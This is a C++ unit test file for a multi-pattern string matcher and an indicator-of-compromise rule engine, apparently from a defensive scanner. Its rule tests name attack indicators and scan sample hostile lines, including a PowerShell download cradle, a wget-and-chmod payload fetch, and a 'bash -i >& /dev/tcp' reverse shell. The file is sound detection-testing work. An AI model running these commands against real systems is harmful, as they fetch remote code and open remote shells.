@@ -0,0 +1,237 @@
+#include <Arduino.h>
+#include <unity.h>
+#include <algorithm>
+#include <random>
+#include <set>
+#include <string>
+#include <utility>
+#include <vector>
+#include "multi_pattern_matcher.h"
+#include "ioc_matcher.h"
+
+// Occurrences as (pattern id, end offset), the way MultiPatternMatcher::scan reports them
+typedef std::set<std::pair<uint32_t, uint64_t>> Occurrences;
+
+static std::mt19937 rng(20240601);
+
+static char randomChar(const std::string& alphabet) {
+    return alphabet[rng() % alphabet.size()];
+}
+
+static std::string randomText(const std::string& alphabet, size_t length) {
+    std::string text;
+    for (size_t i = 0; i < length; i++) text += randomChar(alphabet);
+    return text;
+}
+
+static char fold(char c) {
+    return (c >= 'A' && c <= 'Z') ? c + 32 : c;
+}
+
+// Reference: every occurrence of every pattern, ASCII case-insensitively
+static Occurrences naiveScan(const std::vector<std::string>& patterns, const std::string& text) {
+    Occurrences found;
+    for (size_t p = 0; p < patterns.size(); p++) {
+        const std::string& pattern = patterns[p];
+        for (size_t at = 0; at + pattern.size() <= text.size(); at++) {
+            size_t k = 0;
+            while (k < pattern.size() && fold(text[at + k]) == fold(pattern[k])) k++;
+            if (k == pattern.size()) found.insert(std::make_pair((uint32_t)p, (uint64_t)(at + k)));
+        }
+    }
+    return found;
+}
+
+static void compilePatterns(MultiPatternMatcher& matcher, const std::vector<std::string>& patterns,
+                            size_t dense_budget) {
+    matcher.clear();
+    for (const std::string& pattern : patterns) {
+        TEST_ASSERT_TRUE(matcher.addPattern((const uint8_t*)pattern.data(), pattern.size()) >= 0);
+    }
+    TEST_ASSERT_TRUE(matcher.compile(dense_budget));
+}
+
+// Feeds `text` in blocks of random size (1..max_block), carrying the state across blocks
+static Occurrences automatonScan(const MultiPatternMatcher& matcher, const std::string& text, size_t max_block) {
+    Occurrences found;
+    uint32_t state = MultiPatternMatcher::START_STATE;
+    size_t pos = 0;
+    while (pos < text.size()) {
+        size_t len = std::min(text.size() - pos, (size_t)(1 + rng() % max_block));
+        uint64_t base = pos;
+        state = matcher.scan((const uint8_t*)text.data() + pos, len, state,
+            [&found, base](uint16_t id, size_t end) {
+                found.insert(std::make_pair((uint32_t)id, base + end));
+            });
+        pos += len;
+    }
+    return found;
+}
+
+static void runDifferential(size_t dense_budget, size_t max_block) {
+    // Small alphabets make overlaps, shared prefixes and failure chains common
+    const std::string pattern_alphabet = "abcABC-";
+    const std::string text_alphabet = "abcABC-xyz\n";
+
+    for (int round = 0; round < 40; round++) {
+        std::vector<std::string> patterns;
+        size_t count = 1 + rng() % 60;
+        for (size_t i = 0; i < count; i++) {
+            patterns.push_back(randomText(pattern_alphabet, 1 + rng() % 8));
+        }
+        std::string text = randomText(text_alphabet, 1 + rng() % 3000);
+
+        MultiPatternMatcher matcher;
+        compilePatterns(matcher, patterns, dense_budget);
+
+        Occurrences expected = naiveScan(patterns, text);
+        Occurrences actual = automatonScan(matcher, text, max_block);
+        TEST_ASSERT_EQUAL_UINT32(expected.size(), actual.size());
+        TEST_ASSERT_TRUE(expected == actual);
+    }
+}
+
+// ===========================
+// MultiPatternMatcher
+// ===========================
+
+void test_matches_every_occurrence_case_insensitively() {
+    runDifferential(MultiPatternMatcher::DEFAULT_DENSE_BUDGET, 1 << 20);
+}
+
+void test_matches_straddle_block_boundaries() {
+    runDifferential(MultiPatternMatcher::DEFAULT_DENSE_BUDGET, 7);
+}
+
+void test_sparse_states_match_like_dense_ones() {
+    // A budget below one row leaves only the root dense
+    runDifferential(1, 64);
+}
+
+void test_duplicate_patterns_each_report() {
+    std::vector<std::string> patterns = {"Mimikatz", "mimikatz", "katz"};
+    MultiPatternMatcher matcher;
+    compilePatterns(matcher, patterns, MultiPatternMatcher::DEFAULT_DENSE_BUDGET);
+
+    Occurrences found = automatonScan(matcher, "run MIMIKATZ.exe", 1 << 20);
+    TEST_ASSERT_EQUAL_UINT32(3, found.size());
+    TEST_ASSERT_TRUE(found.count(std::make_pair(0u, (uint64_t)12)) == 1);
+    TEST_ASSERT_TRUE(found.count(std::make_pair(1u, (uint64_t)12)) == 1);
+    TEST_ASSERT_TRUE(found.count(std::make_pair(2u, (uint64_t)12)) == 1);
+}
+
+void test_rejects_empty_pattern() {
+    MultiPatternMatcher matcher;
+    TEST_ASSERT_TRUE(matcher.addPattern((const uint8_t*)"", 0) < 0);
+}
+
+// ===========================
+// IOCMatcher rule conditions
+// ===========================
+
+static IOCRule makeRule(const char* name, const std::vector<String>& strings, const char* condition) {
+    IOCRule rule;
+    rule.name = name;
+    rule.severity = "high";
+    rule.strings = strings;
+    rule.condition = condition;
+    return rule;
+}
+
+static bool matchedRule(IOCMatcher& matcher, const char* name) {
+    for (const IOCMatch& match : matcher.getMatches()) {
+        if (match.ruleName == name) return true;
+    }
+    return false;
+}
+
+void test_rule_conditions() {
+    IOCMatcher matcher;
+    TEST_ASSERT_TRUE(matcher.addRule(makeRule("any_rule", {"invoke-expression", "downloadstring"}, "any")));
+    TEST_ASSERT_TRUE(matcher.addRule(makeRule("all_rule", {"wget", "chmod +x", "/tmp/"}, "all")));
+    TEST_ASSERT_TRUE(matcher.addRule(makeRule("two_rule", {"nc -e", "bash -i", "/dev/tcp/"}, "2 of them")));
+    TEST_ASSERT_TRUE(matcher.addRule(makeRule("four_rule", {"a1", "b2", "c3", "d4", "e5"}, "4 of them")));
+    TEST_ASSERT_TRUE(matcher.addRule(makeRule("bad_rule", {"anything"}, "most of them")));
+
+    TEST_ASSERT_TRUE(matcher.scanContent("IEX (New-Object Net.WebClient).DownloadString('x')", "ps.log"));
+    TEST_ASSERT_TRUE(matchedRule(matcher, "any_rule"));
+    TEST_ASSERT_FALSE(matchedRule(matcher, "all_rule"));
+    matcher.clearMatches();
+
+    TEST_ASSERT_FALSE(matcher.scanContent("wget http://x/a -O /tmp/a", "bash_history"));
+    TEST_ASSERT_TRUE(matcher.scanContent("wget http://x/a -O /tmp/a; CHMOD +X /tmp/a", "bash_history"));
+    TEST_ASSERT_TRUE(matchedRule(matcher, "all_rule"));
+    matcher.clearMatches();
+
+    TEST_ASSERT_FALSE(matcher.scanContent("bash -i", "x"));
+    TEST_ASSERT_TRUE(matcher.scanContent("bash -i >& /dev/tcp/10.0.0.1/4444", "x"));
+    TEST_ASSERT_TRUE(matchedRule(matcher, "two_rule"));
+    matcher.clearMatches();
+
+    // "N of them" works for any N, not only 2 and 3
+    TEST_ASSERT_FALSE(matcher.scanContent("a1 b2 c3", "x"));
+    TEST_ASSERT_TRUE(matcher.scanContent("a1 b2 c3 e5", "x"));
+    TEST_ASSERT_TRUE(matchedRule(matcher, "four_rule"));
+    matcher.clearMatches();
+
+    // An unparseable condition never matches
+    TEST_ASSERT_FALSE(matcher.scanContent("anything", "x"));
+}
+
+void test_matched_strings_and_offsets() {
+    IOCMatcher matcher;
+    TEST_ASSERT_TRUE(matcher.addRule(makeRule("r", {"alpha", "beta", "gamma"}, "any")));
+
+    TEST_ASSERT_TRUE(matcher.scanContent("..GAMMA..alpha..alpha", "f"));
+    std::vector<IOCMatch> matches = matcher.getMatches();
+    TEST_ASSERT_EQUAL_UINT32(1, matches.size());
+    TEST_ASSERT_EQUAL_UINT32(2, matches[0].matchedStrings.size());
+
+    // In rule string order, each with the offset of its first occurrence
+    TEST_ASSERT_EQUAL_STRING("alpha", matches[0].matchedStrings[0].c_str());
+    TEST_ASSERT_EQUAL_UINT64(9, matches[0].offsets[0]);
+    TEST_ASSERT_EQUAL_STRING("gamma", matches[0].matchedStrings[1].c_str());
+    TEST_ASSERT_EQUAL_UINT64(2, matches[0].offsets[1]);
+}
+
+void test_rules_added_after_a_scan_are_compiled() {
+    IOCMatcher matcher;
+    TEST_ASSERT_TRUE(matcher.addRule(makeRule("first", {"one"}, "any")));
+    TEST_ASSERT_TRUE(matcher.scanContent("one", "f"));
+
+    TEST_ASSERT_TRUE(matcher.addRule(makeRule("second", {"two"}, "any")));
+    matcher.clearMatches();
+    TEST_ASSERT_TRUE(matcher.scanContent("two", "f"));
+    TEST_ASSERT_TRUE(matchedRule(matcher, "second"));
+    TEST_ASSERT_FALSE(matchedRule(matcher, "first"));
+}
+
+void test_rejects_rule_with_too_many_strings() {
+    std::vector<String> strings;
+    for (int i = 0; i <= IOC_MAX_PATTERNS_PER_RULE; i++) strings.push_back(String("s") + i);
+
+    IOCMatcher matcher;
+    TEST_ASSERT_FALSE(matcher.addRule(makeRule("huge", strings, "any")));
+    TEST_ASSERT_EQUAL_UINT32(0, matcher.getRuleCount());
+}
+
+void setUp() {
+    Serial.setQuiet(true);
+}
+
+void tearDown() {
+}
+
+int main(int argc, char** argv) {
+    UNITY_BEGIN();
+    RUN_TEST(test_matches_every_occurrence_case_insensitively);
+    RUN_TEST(test_matches_straddle_block_boundaries);
+    RUN_TEST(test_sparse_states_match_like_dense_ones);
+    RUN_TEST(test_duplicate_patterns_each_report);
+    RUN_TEST(test_rejects_empty_pattern);
+    RUN_TEST(test_rule_conditions);
+    RUN_TEST(test_matched_strings_and_offsets);
+    RUN_TEST(test_rules_added_after_a_scan_are_compiled);
+    RUN_TEST(test_rejects_rule_with_too_many_strings);
+    return UNITY_END();
+}